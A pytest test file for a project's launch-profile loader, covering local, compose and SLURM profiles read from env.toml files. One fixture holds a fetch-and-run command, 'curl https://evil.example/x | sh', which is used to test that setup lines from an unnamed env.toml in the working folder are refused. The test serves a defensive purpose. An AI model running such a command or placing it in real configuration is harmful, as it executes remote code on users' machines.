"""Launch plans: env.toml profiles (the SLURM script: test_slurm_script.py; a real SLURM:
tests/test_slurm.py)."""

from __future__ import annotations

from pathlib import Path

import pytest
from rlfleet_core.config import ConfigError
from rlfleet_pipeline.launch.profiles import (
    ComposeProfile,
    LocalProfile,
    SlurmProfile,
    load_profile,
)

REPO = Path(__file__).resolve().parents[3]


def test_builtin_profiles_without_env_toml(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("HOME", str(tmp_path))
    assert isinstance(load_profile("local"), LocalProfile)
    assert isinstance(load_profile("compose"), ComposeProfile)
    with pytest.raises(ConfigError, match="--run nope: no such profile"):
        load_profile("nope")


def test_example_env_toml_loads() -> None:
    profile = load_profile("cluster", REPO / "deploy" / "slurm" / "env.toml.example")
    assert isinstance(profile, SlurmProfile)
    assert (profile.nodes.trainer, profile.nodes.rollout, profile.gpus_per_node) == (16, 1, 8)
    assert isinstance(
        load_profile("slurm-here", REPO / "deploy" / "slurm" / "env.toml.example"), SlurmProfile
    )


def test_bad_profile_names_the_key(tmp_path: Path) -> None:
    env = tmp_path / "env.toml"
    env.write_text(
        '[c]\nlauncher = "slurm"\naccount = "a"\npartition = "p"\ngpus_per_node = "eight"\n'
    )
    with pytest.raises(ConfigError) as info:
        load_profile("c", env)
    assert info.value.lines == [f"{env} [c] gpus_per_node: expected an integer, got 'eight'"]


SETUP_TOML = (
    '[c]\nlauncher = "slurm"\ncontainer_runtime = "none"\ngpus_per_node = 0\n'
    'setup = ["curl https://evil.example/x | sh"]\n'
    '[plain]\nlauncher = "slurm"\ncontainer_runtime = "none"\ngpus_per_node = 0\n'
)


def test_setup_lines_only_from_an_env_toml_the_user_named(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An env.toml that merely sits in the current folder (a cloned repository, a shared
    project folder) used to have its `setup` lines run in every task of the SLURM job.
    Now they are refused, naming the fix; the same file named is read as before."""
    from rlfleet_pipeline.launch.profiles import ENV_TOML_ENV

    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.delenv(ENV_TOML_ENV, raising=False)
    (tmp_path / "env.toml").write_text(SETUP_TOML)
    with pytest.raises(ConfigError) as info:
        load_profile("c")
    (line,) = info.value.lines
    assert line.startswith(f"{tmp_path / 'env.toml'} [c] setup: ")
    assert "--env-toml env.toml" in line and ENV_TOML_ENV in line
    plain = load_profile("plain")  # nothing that runs: the folder's file still serves
    assert isinstance(plain, SlurmProfile) and plain.setup == []
    named = load_profile("c", Path("env.toml"))
    assert isinstance(named, SlurmProfile) and named.setup == ["curl https://evil.example/x | sh"]
    monkeypatch.setenv(ENV_TOML_ENV, "env.toml")
    assert isinstance(load_profile("c"), SlurmProfile)
    # The user's own file, found without naming it, is trusted.
    monkeypatch.delenv(ENV_TOML_ENV)
    (tmp_path / "env.toml").unlink()
    own = tmp_path / "home" / ".config" / "rlfleet" / "env.toml"
    own.parent.mkdir(parents=True)
    own.write_text(SETUP_TOML)
    assert isinstance(load_profile("c"), SlurmProfile)


def test_every_profile_kind_has_its_launcher() -> None:
    """A new profile kind fails here until it has a launcher (the CLI decides nothing
    about where things run: the launcher does)."""
    from typing import get_args

    from rlfleet_pipeline.launch.profiles import Profile
    from rlfleet_pipeline.launchers import LAUNCHERS, launcher_for

    kinds = get_args(Profile)
    assert set(LAUNCHERS) == set(kinds)
    for kind in kinds:
        profile = kind.model_construct()
        launcher = launcher_for(profile)
        assert launcher.kind == profile.launcher and launcher.profile is profile
